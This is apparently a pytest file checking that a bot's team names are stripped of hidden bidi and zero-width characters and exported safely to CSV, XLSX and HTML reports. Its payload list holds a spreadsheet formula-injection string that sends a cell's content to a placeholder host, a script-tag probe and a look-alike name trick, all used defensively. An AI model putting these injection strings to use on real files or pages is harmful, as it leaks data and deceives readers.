"""Names that attack the reader: formulas in spreadsheets, markup in the report, hidden marks.

A lead can name a team anything. The name is cleaned when it is stored (no control, bidi or
zero-width characters) and written so that no export can run it: CSV and XLSX cells that
start like a formula are text, and the HTML report escapes and draws any name.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session, select

from bot.service.conversation import Conversation
from bot.service.outcome import Person
from bot.service.teams import Teams
from dialogues.loader import Dialogue
from reports.export import write
from reports.hr import build_report
from storage.models import Team
from storage.names import clean_name
from tests.fakebotapi import FakeBotApi
from tests.test_hr_report import close_organisation_round
from tests.test_teams import LEAD, finish

FORMULA = '=HYPERLINK("http://x?"&A1,"klik")'
PAYLOADS = (
    FORMULA,
    "+31 6 1234",
    "-2+3",
    "@SUM(A1)",
    "$\\frac{$",
    "<script>alert(1)</script>",
    ("مرحبا بالعالم " * 40)[:250] + ("שלום עולם " * 40)[:250],
)
# A look-alike of "Team A": a right-to-left override and a zero-width space inside.
LOOK_ALIKE = "Team\u202e\u200b A"


def test_hidden_characters_are_stripped_from_names() -> None:
    assert clean_name(LOOK_ALIKE) == "Team A"
    assert clean_name("a\x00b\tc\nd\u2066e\ufeff") == "ab c de"
    assert len(clean_name("x" * 500)) == 64


ORGANISATION = "Zorggroep"


@pytest.fixture
def hostile_teams(conversation: Conversation, engine: Engine) -> list[str]:
    """One team per payload in an organisation, each with five people who finished (a shown
    group); the organisation's round is closed, so HR's report shows them."""
    teams = Teams(conversation.people, min_group=5)
    card = teams.organisation(Person("telegram", "61999999", "nl"), ORGANISATION).replies[0]
    conversation.start(LEAD, card.data["organisation"].code)  # the lead link
    names = []
    for t, payload in enumerate(PAYLOADS):
        team = teams.team(LEAD, payload).replies[0].data["team"]
        names.append(team.name)
        for n in range(5):
            person = Person("telegram", str(61_000_000 + t * 100 + n), "nl")
            conversation.start(person, team.code)
            finish(conversation, person, option_index=n % 4 + 1)
    close_organisation_round(engine, ORGANISATION)
    return names


def test_no_spreadsheet_cell_is_a_formula_and_the_report_holds_every_name(
    hostile_teams: list[str], engine: Engine, dialogue: Dialogue, tmp_path: Path
) -> None:
    with Session(engine) as session:
        report = build_report(session, min_group=5, organisation=ORGANISATION)
    assert {g.group for g in report.groups if g.kind == "team" and g.people} == set(hostile_teams)
    for fmt in ("csv", "xlsx", "html"):
        write(report, dialogue, fmt, tmp_path / f"report.{fmt}")

    with (tmp_path / "report.csv").open(encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    assert "'" + FORMULA in cells, "the formula is there, as text"
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert not [c for c in cells if c.startswith("-") and not c[1:2].isdigit()]

    book = load_workbook(tmp_path / "report.xlsx")
    written = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in written if c.data_type == "f"] == []
    assert "'" + FORMULA in [c.value for c in written]

    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert hostile_teams[-1] in page  # 500 characters of right-to-left text, cut to 64


async def test_a_team_named_through_the_bot_is_stored_without_hidden_characters(
    api: FakeBotApi, running_bot: Path, engine: Engine
) -> None:
    lead = api.user(62_000_001, "Lea")
    await lead.send(f"/team {LOOK_ALIKE}")
    await api.settle()
    await lead.send(f"/team {FORMULA}")
    await api.settle()
    with Session(engine) as session:
        names = sorted(team.name for team in session.exec(select(Team)))
    assert names == sorted(["Team A", FORMULA])
    card = lead.messages[0]["plain"]  # the QR card's caption: what the lead sees back
    assert "Team A" in card and "\u202e" not in card and "\u200b" not in card
    assert api.rejected == []
